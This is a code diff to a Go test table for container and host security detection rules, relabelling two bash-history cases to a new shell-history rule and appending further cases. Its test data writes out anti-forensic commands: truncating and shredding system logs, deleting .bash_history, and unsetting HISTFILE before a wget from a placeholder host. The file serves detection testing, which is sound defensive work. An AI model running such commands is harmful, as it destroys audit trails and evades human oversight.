@@ -19,7 +19,7 @@ func allCases() []ruleCase {
 	sshd := p("/usr/sbin/sshd", "-D")
 	const token = "/var/run/secrets/kubernetes.io/serviceaccount/..2026_11_26_16_00_00.123456789/token"
 
-	return []ruleCase{
+	return append([]ruleCase{
 		// terminal_shell_in_container
 		{"terminal_shell_in_container/kubectl exec -it bash", exec(p("/bin/bash", "", pod, initTree(false)), runcExec),
 			[]string{"terminal_shell_in_container"}},
@@ -287,14 +287,14 @@ func allCases() []ruleCase {
 		// log_tampering
 		{"log_tampering/sh truncates /var/log/auth.log", tp("syscalls/sys_enter_openat", p("/bin/sh", "-c '> /var/log/auth.log'"), hostBash, intArg(-100), strArg("/var/log/auth.log"), intArg(0x241)),
 			[]string{"log_tampering"}},
-		{"log_tampering/rm .bash_history", exec(p("/bin/rm", "-f /root/.bash_history", pod, initTree(false)), podShell),
-			[]string{"log_tampering"}},
+		{"log_tampering/rm .bash_history is history, not a log", exec(p("/bin/rm", "-f /root/.bash_history", pod, initTree(false)), podShell),
+			[]string{"shell_history_tampering"}},
 		{"log_tampering/shred /var/log/syslog", exec(p("/usr/bin/shred", "-u /var/log/syslog"), hostBash),
 			[]string{"log_tampering"}},
 		{"log_tampering/unlinkat /var/log/secure", tp("syscalls/sys_enter_unlinkat", p("/usr/bin/python3", "clean.py"), hostBash, intArg(-100), strArg("/var/log/secure"), intArg(0)),
 			[]string{"log_tampering"}},
-		{"log_tampering/history disabled", exec(p("/bin/bash", "-c 'unset HISTFILE; wget -q http://x/y'"), hostBash),
-			[]string{"log_tampering"}},
+		{"log_tampering/history disabled is history, not a log", exec(p("/bin/bash", "-c 'unset HISTFILE; wget -q http://x/y'"), hostBash),
+			[]string{"shell_history_tampering"}},
 		{"log_tampering/logrotate copytruncate", tp("syscalls/sys_enter_openat", p("/usr/sbin/logrotate", "/etc/logrotate.conf"), p("/usr/sbin/cron", "-f"), intArg(-100), strArg("/var/log/app.log"), intArg(0x241)), nil},
 		{"log_tampering/bash saves its history", tp("syscalls/sys_enter_openat", p("/usr/bin/bash", ""), sshd, intArg(-100), strArg("/root/.bash_history"), intArg(0x241)), nil},
 		{"log_tampering/kubelet removes a rotated pod log", tp("syscalls/sys_enter_unlinkat", p("/usr/bin/kubelet", ""), p("/usr/lib/systemd/systemd", ""), intArg(-100), strArg("/var/log/pods/ns_pod_uid/app/0.log.20261126-170000"), intArg(0)), nil},
@@ -313,5 +313,5 @@ func allCases() []ruleCase {
 		{"credential_file_search/grep -c processor /proc/cpuinfo (captured)", exec(p("/usr/bin/grep", "-c processor /proc/cpuinfo"), hostBash), nil},
 		{"credential_file_search/non-recursive grep", exec(p("/usr/bin/grep", "password README.md"), hostBash), nil},
 		{"credential_file_search/update-ca-certificates", exec(p("/usr/bin/find", ". -name *.pem -type l"), p("/usr/sbin/update-ca-certificates", "--fresh")), nil},
-	}
+	}, v2Cases()...)
 }
